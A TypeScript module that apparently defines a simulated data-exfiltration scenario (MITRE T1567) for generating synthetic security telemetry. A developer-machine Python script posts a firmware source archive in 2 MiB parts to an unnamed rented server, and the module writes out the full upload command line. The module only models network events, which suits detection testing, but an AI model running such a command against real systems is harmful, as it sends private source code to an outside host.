import { minute, second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { rentedServer } from '../services.ts';
import { clock, type Intrusion } from './intrusion.ts';

const parts = 20;

/** A script on a developer's machine posts an archive to a rented server, which has an address and no name: 40 MiB in
 *  half an hour, two at a time. */
export const partsByPython: Intrusion = {
  name: 'parts-python',
  technique: 'T1567',
  device: 'lf-dev-01',
  dayNumber: 0,
  service: rentedServer,
  tell: (desk, midnight, random, incident) => {
    const start = clock(midnight, 15, 42, 9);
    const folder = `C:\\Users\\${desk.device.account.name}\\source\\repos\\gauge-firmware`;
    const script = desk.launch(programs.python, {
      at: start,
      commandLine: `python.exe tools\\post_parts.py --url https://${rentedServer}/in --part-size 2097152 ${folder}\\..\\gauge.tar.gz`,
    });
    for (let part = 0; part < parts; part++) {
      desk.exchange(script, rentedServer, null, {
        at: start + 2 * second + part * 1.5 * minute + random.int(0, 9_000) * 1_000,
        lasting: random.int(2_400, 8_000) * 1_000,
        sent: 2_097_152 + 410,
        received: 180,
        incident,
      });
    }
  },
};
